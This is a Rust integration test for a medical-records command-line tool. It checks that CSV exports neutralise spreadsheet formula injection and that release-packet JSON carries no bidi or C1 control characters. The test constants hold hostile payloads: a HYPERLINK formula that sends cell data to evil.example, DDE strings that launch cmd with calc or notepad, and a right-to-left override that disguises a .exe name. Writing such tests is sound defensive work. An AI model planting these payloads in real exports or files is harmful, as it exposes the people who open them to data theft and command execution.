//! Exports that cannot attack their reader (OWASP CSV injection): hostile names, services,
//! requesters and recipients go through every CSV output; every output parses with equal-length
//! rows, and no cell starts a spreadsheet formula. Packet JSON keeps no bidi or C1 controls.

use std::path::Path;

use assert_cmd::Command;

const HOSTILE_FAMILY: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
const HOSTILE_GIVEN: &str = "+SUM(1,2)\u{202E}gpj.exe";
const HOSTILE_PROVIDER: &str = "@cmd|' /C calc'!A0";
const HOSTILE_SERVICE: &str = "-2+3,Medicine\r\n=1";
const HOSTILE_PARTY: &str = "\t=cmd|' /C notepad'!A1\u{85}";

fn cd(db: &Path) -> Command {
    let mut c = Command::cargo_bin("chartdesk").expect("binary");
    c.arg("--db")
        .arg(db)
        .env_remove("CHARTDESK_DB")
        .env_remove("CHARTDESK_KEY")
        .env_remove("CHARTDESK_KEY_FILE")
        .env("CHARTDESK_SESSION_DIR", db.with_extension("sessions"));
    c
}

fn run(db: &Path, args: &[&str]) -> String {
    let out = cd(db).args(args).output().expect("run");
    assert!(
        out.status.success() || out.status.code() == Some(1) && !out.stdout.is_empty(),
        "{args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).expect("utf-8")
}

fn plain_number(s: &str) -> bool {
    let b = s.strip_prefix(['-', '+']).unwrap_or(s);
    !b.is_empty() && b.chars().all(|c| c.is_ascii_digit() || c == '.')
}

/// Parse strictly (equal-length rows) and check every cell; returns the cells.
fn check_csv(name: &str, text: &str) -> Vec<String> {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(text.as_bytes());
    let width = r.headers().expect("header").len();
    let mut cells = Vec::new();
    for (i, rec) in r.records().enumerate() {
        let rec = rec.unwrap_or_else(|e| panic!("{name}: row {}: {e}\n{text}", i + 1));
        assert_eq!(rec.len(), width, "{name}: row {} shifted", i + 1);
        for c in rec.iter() {
            assert!(
                !c.starts_with(['=', '+', '-', '@', '\t', '\r']) || plain_number(c),
                "{name}: formula cell {c:?}"
            );
            assert!(
                !c.chars()
                    .any(|ch| ch.is_control() || ('\u{202A}'..='\u{202E}').contains(&ch)),
                "{name}: control character in {c:?}"
            );
            cells.push(c.to_string());
        }
    }
    cells
}

#[test]
fn csv_every_export_neutralises_hostile_names() {
    let dir = tempfile::tempdir().expect("tmp");
    let db = dir.path().join("h.db");
    cd(&db)
        .args(["demo", "--no-tui", "--encounters", "120", "--seed", "5"])
        .assert()
        .success();
    {
        let conn = rusqlite::Connection::open(&db).expect("open");
        conn.execute(
            "UPDATE patients SET family_name = ?1, given_name = ?2",
            [HOSTILE_FAMILY, HOSTILE_GIVEN],
        )
        .expect("patients");
        conn.execute(
            "UPDATE providers SET family_name = ?1, given_name = ?2",
            [HOSTILE_PROVIDER, HOSTILE_SERVICE],
        )
        .expect("providers");
        conn.execute("UPDATE encounters SET service = ?1", [HOSTILE_SERVICE])
            .expect("encounters");
        conn.execute(
            "UPDATE release_requests SET requester_name = ?1",
            [HOSTILE_PARTY],
        )
        .expect("requests");
        conn.execute(
            "UPDATE disclosures SET recipient = ?1, recipient_address = ?2, purpose = ?3",
            [HOSTILE_PARTY, HOSTILE_SERVICE, HOSTILE_FAMILY],
        )
        .expect("disclosures");
    }
    // One release: a disclosure for the accounting, and a packet whose JSON must be clean.
    let mrn: String = rusqlite::Connection::open(&db)
        .expect("open")
        .query_row("SELECT mrn FROM patients ORDER BY id LIMIT 1", [], |r| {
            r.get(0)
        })
        .expect("mrn");
    let as_roi = |args: &[&str]| {
        cd(&db)
            .args(["--password-stdin", "roi", "--as", "roi"])
            .args(args)
            .write_stdin("roi-demo\n")
            .assert()
            .success();
    };
    as_roi(&[
        "log",
        &mrn,
        "--type",
        "public_health",
        "--name",
        HOSTILE_PARTY,
        "--purpose",
        HOSTILE_FAMILY,
    ]);
    let id: i64 = rusqlite::Connection::open(&db)
        .expect("open")
        .query_row("SELECT max(id) FROM release_requests", [], |r| r.get(0))
        .expect("request id");
    let id = id.to_string();
    as_roi(&["verify", &id, "--method", "photo ID"]);
    as_roi(&["validate", &id]);
    as_roi(&["submit", &id]);
    cd(&db)
        .args([
            "--password-stdin",
            "roi",
            "--as",
            "super",
            "qa",
            &id,
            "--pass",
        ])
        .write_stdin("super-demo\n")
        .assert()
        .success();
    let packets = dir.path().join("packets");
    cd(&db)
        .args(["--password-stdin", "release", &id, "--as", "roi", "--out"])
        .arg(&packets)
        .write_stdin("roi-demo\n")
        .assert()
        .success();
    let mut json_files = 0;
    for e in std::fs::read_dir(&packets).expect("packets") {
        let folder = e.expect("entry").path();
        if !folder.is_dir() {
            continue;
        }
        for f in ["manifest.json", "bundle.json"] {
            let text = std::fs::read_to_string(folder.join(f)).expect("json");
            assert!(
                !text.chars().any(|c| ('\u{80}'..='\u{9f}').contains(&c)
                    || ('\u{202A}'..='\u{202E}').contains(&c)
                    || ('\u{2066}'..='\u{2069}').contains(&c)),
                "{f} keeps C1 or bidi characters"
            );
            assert!(text.contains("gpj.exe"), "{f}: the name is kept, cleaned");
            json_files += 1;
        }
    }
    assert_eq!(json_files, 2);
    // One coded encounter (for the edits and billing exports).
    let queue = run(&db, &["coding", "queue", "--format", "csv"]);
    let first: String = queue
        .lines()
        .nth(1)
        .and_then(|l| l.split(',').next())
        .expect("an encounter ready to code")
        .to_string();
    cd(&db)
        .args([
            "coding",
            "set-codes",
            "--encounter",
            &first,
            "--principal",
            "I10:Y",
        ])
        .assert()
        .success();
    cd(&db)
        .args([
            "coding",
            "complete",
            "--encounter",
            &first,
            "--ack",
            "COD-14-USE-ADDITIONAL",
        ])
        .assert()
        .success();
    let (provider, encounter, coded): (i64, i64, i64) =
        {
            let conn = rusqlite::Connection::open(&db).expect("open");
            conn.query_row(
            "SELECT (SELECT provider_id FROM deficiencies WHERE provider_id IS NOT NULL LIMIT 1),
                    (SELECT encounter_id FROM encounter_codes LIMIT 1),
                    (SELECT id FROM encounters WHERE coding_status = 'coded' LIMIT 1)",
            [],
            |r| Ok((r.get(0)?, r.get(1)?, r.get::<_, Option<i64>>(2)?.unwrap_or(0))),
        )
        .expect("fixture ids")
        };
    let provider = provider.to_string();
    let encounter = encounter.to_string();
    let coded = coded.to_string();
    let outputs: Vec<(&str, Vec<&str>)> = vec![
        ("roi list", vec!["roi", "list", "--all", "--format", "csv"]),
        (
            "report disclosures",
            vec![
                "report",
                "disclosures",
                "--patient",
                &mrn,
                "--format",
                "csv",
            ],
        ),
        (
            "report provider",
            vec!["report", "provider", &provider, "--format", "csv"],
        ),
        (
            "report deficiencies",
            vec!["report", "deficiencies", "--format", "csv"],
        ),
        (
            "report delinquency",
            vec!["report", "delinquency", "--format", "csv"],
        ),
        ("report dnfb", vec!["report", "dnfb", "--format", "csv"]),
        ("report coding", vec!["report", "coding", "--format", "csv"]),
        ("coding queue", vec!["coding", "queue", "--format", "csv"]),
        ("coding held", vec!["coding", "held", "--format", "csv"]),
        (
            "edits",
            vec!["edits", "--encounter", &encounter, "--format", "csv"],
        ),
        (
            "coding export",
            vec!["coding", "export", "--encounter", &coded, "--format", "csv"],
        ),
    ];
    let mut seen_hostile = 0;
    for (name, args) in &outputs {
        if *name == "coding export" && coded == "0" {
            eprintln!("no coded encounter in the demo data; coding export not exercised");
            continue;
        }
        let text = run(&db, args);
        let cells = check_csv(name, &text);
        assert!(!cells.is_empty(), "{name}: no rows");
        if cells.iter().any(|c| {
            c.starts_with("'=") || c.starts_with("'@") || c.starts_with("'+") || c.starts_with("'-")
        }) {
            seen_hostile += 1;
        }
    }
    // The hostile text did reach the name-bearing outputs (neutralised, not dropped).
    assert!(
        seen_hostile >= 6,
        "hostile cells seen in only {seen_hostile} outputs"
    );
}
